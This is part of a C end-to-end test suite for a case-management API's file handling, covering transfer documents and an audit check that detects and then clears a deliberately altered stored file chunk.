/* ------------------------------------------------------------------ */
/* The workflow's kinds, a transfer's documents                       */
/* ------------------------------------------------------------------ */

static void
test_kinds_and_transfer_documents(void **state)
{
	static const char *const kinds[] = { "photo", "inspection_report",
	    "minutes", "notice", "rectification_evidence", "self_inspection",
	    "other", NULL };
	struct resp	 r;
	json_t		*a, *k, *docs, *d;
	size_t		 i, j;
	int		 found;
	char		 uscc[19], *path, *t;
	long long	 cid;

	(void)state;
	http_get(officer, "/api/v1/workflow", &r);
	assert_status(&r, 200);
	a = json_object_get(r.json, "file_kinds");
	for (i = 0; kinds[i] != NULL; i++) {
		found = 0;
		json_array_foreach(a, j, k)
			if (strcmp(json_string_value(json_object_get(k, "id")),
			    kinds[i]) == 0 && json_is_string(json_object_get(k,
			    "label")))
				found = 1;
		if (!found)
			fail_msg("file_kinds lacks %s", kinds[i]);
	}
	json_array_foreach(json_object_get(r.json, "documents"), i, d) {
		found = 0;
		json_array_foreach(a, j, k)
			if (json_equal(json_object_get(k, "id"),
			    json_object_get(d, "id")))
				found = 1;
		if (!found)
			fail_msg("file_kinds lacks the document %s",
			    json_string_value(json_object_get(d, "id")));
	}
	resp_free(&r);

	/* A transfer proposed: which of its documents have a file. */
	cid = fixture_case(officer, fixture_enterprise(officer, "110101",
	    uscc));
	upload(officer, cid, "transfer_letter", "移送书.pdf", "application/pdf",
	    pdf, pdf_len, NULL, &r);
	assert_status(&r, 201);
	resp_free(&r);
	path = fmt("/api/v1/cases/%lld/transitions", cid);
	t = fmt("If-Match: \"1\"");
	{
		const char *h[] = { t, NULL };

		http_json(officer, "POST", path, json_pack("{s:s, s:{s:s, s:s,"
		    " s:[s, s, s, s, s]}}", "event", "transfer_judicial",
		    "payload", "receiving_organ", "北京市公安局东城分局",
		    "reason", "涉嫌生产伪劣产品罪", "documents", "transfer_letter",
		    "investigation_report", "evidence_list",
		    "inspection_report", "other_materials"), h, &r);
	}
	assert_status(&r, 202);
	resp_free(&r);
	free(path);
	free(t);
	path = fmt("/api/v1/cases/%lld", cid);
	http_get(legal, path, &r);
	assert_status(&r, 200);
	docs = json_object_get(json_object_get(r.json, "pending"), "documents");
	assert_int_equal(json_array_size(docs), 5);
	json_array_foreach(docs, i, d) {
		int has = strcmp(json_string_value(json_object_get(d, "id")),
		    "transfer_letter") == 0;

		assert_int_equal(json_is_true(json_object_get(d, "has_file")),
		    has);
		assert_int_equal(json_array_size(json_object_get(d, "files")),
		    has);
	}
	resp_free(&r);
	free(path);
}

/* ------------------------------------------------------------------ */
/* Verify covers the files                                            */
/* ------------------------------------------------------------------ */

static void
test_verify_changed_piece(void **state)
{
	struct resp	 r;
	PGconn		*db = db_admin();
	char		*path, *doc = fake_pdf(2 * PIECE + 7), *sql, *chunk;
	json_t		*bad;
	long long	 id;

	(void)state;
	upload(officer, bj_case, "inspection_report", "verify.pdf",
	    "application/pdf", doc, 2 * PIECE + 7, NULL, &r);
	assert_status(&r, 201);
	id = id_of(&r);
	resp_free(&r);
	path = fmt("/api/v1/audit/verify?case=%lld", bj_case);
	http_get(auditor, path, &r);
	assert_status(&r, 200);
	if (!json_is_true(json_object_get(r.json, "ok")))
		fail_msg("verify before tampering: %s", r.body);
	assert_true(json_integer_value(json_object_get(json_object_get(r.json,
	    "files"), "checked")) >= 1);
	resp_free(&r);

	/* Someone with the database's keys changes one byte of the second
	 * piece, past every guard. */
	sql = fmt("SELECT encode(bc.chunk, 'hex') FROM files f"
	    " JOIN file_blob_chunks bc ON bc.blob = f.sha256 AND bc.n = 1"
	    " WHERE f.id = %lld", id);
	chunk = db_value(db, sql, NULL);
	free(sql);
	assert_non_null(chunk);
	sql = fmt("BEGIN; ALTER TABLE file_chunks DISABLE TRIGGER"
	    " file_chunks_no_update; ALTER TABLE file_chunks DROP CONSTRAINT"
	    " file_chunks_hash; UPDATE file_chunks SET data = overlay(data"
	    " placing '\\x00'::bytea from 100 for 1) WHERE sha256 ="
	    " '\\x%s'; ALTER TABLE file_chunks ENABLE TRIGGER"
	    " file_chunks_no_update; ALTER TABLE file_chunks ADD CONSTRAINT"
	    " file_chunks_hash CHECK (sha256(data) = sha256) NOT VALID; COMMIT",
	    chunk);
	db_do(db, sql);
	free(sql);
	http_get(auditor, path, &r);
	assert_status(&r, 200);
	assert_true(json_is_false(json_object_get(r.json, "ok")));
	bad = json_object_get(r.json, "first_bad");
	assert_string_equal(json_string_value(json_object_get(bad, "entity")),
	    "file");
	assert_int_equal(json_integer_value(json_object_get(bad, "entity_id")),
	    id);
	assert_int_equal(json_integer_value(json_object_get(bad, "case")),
	    bj_case);
	assert_int_equal(json_integer_value(json_object_get(bad, "piece")), 1);
	resp_free(&r);
	/* The whole database's verify says so too. */
	http_get(auditor, "/api/v1/audit/verify", &r);
	assert_status(&r, 200);
	assert_true(json_is_false(json_object_get(r.json, "ok")));
	resp_free(&r);

	/* Put back, verify is whole again. */
	sql = fmt("BEGIN; ALTER TABLE file_chunks DISABLE TRIGGER"
	    " file_chunks_no_update; UPDATE file_chunks SET data = overlay(data"
	    " placing '\\x%02x'::bytea from 100 for 1) WHERE sha256 = '\\x%s';"
	    " ALTER TABLE file_chunks ENABLE TRIGGER file_chunks_no_update;"
	    " ALTER TABLE file_chunks VALIDATE CONSTRAINT file_chunks_hash;"
	    " COMMIT", (unsigned char)doc[PIECE + 99], chunk);
	db_do(db, sql);
	free(sql);
	http_get(auditor, path, &r);
	assert_status(&r, 200);
	if (!json_is_true(json_object_get(r.json, "ok")))
		fail_msg("verify after repair: %s", r.body);
	resp_free(&r);
	/* The database itself refuses a piece under another's key. */
	sql = fmt("INSERT INTO file_chunks (sha256, data) VALUES ('\\x%s',"
	    " 'forged'::bytea)", chunk);
	{
		PGresult *res = PQexec(db, "SET ROLE paicha_owner");

		PQclear(res);
		res = PQexec(db, sql);
		assert_int_not_equal(PQresultStatus(res), PGRES_COMMAND_OK);
		PQclear(res);
		PQclear(PQexec(db, "RESET ROLE"));
	}
	free(sql);
	free(chunk);
	free(path);
	free(doc);
	PQfinish(db);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_photo_up_and_down),
		cmocka_unit_test(test_ranges),
		cmocka_unit_test(test_types_taken),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_dedup_and_idempotency),
		cmocka_unit_test(test_stopped_half_way),
		cmocka_unit_test(test_scope_and_roles),
		cmocka_unit_test(test_withdraw),
		cmocka_unit_test(test_kinds_and_transfer_documents),
		cmocka_unit_test(test_verify_changed_piece),
	};

	curl_global_init(CURL_GLOBAL_DEFAULT);
	return cmocka_run_group_tests_name("e2e-files", tests, setup,
	    teardown);
}
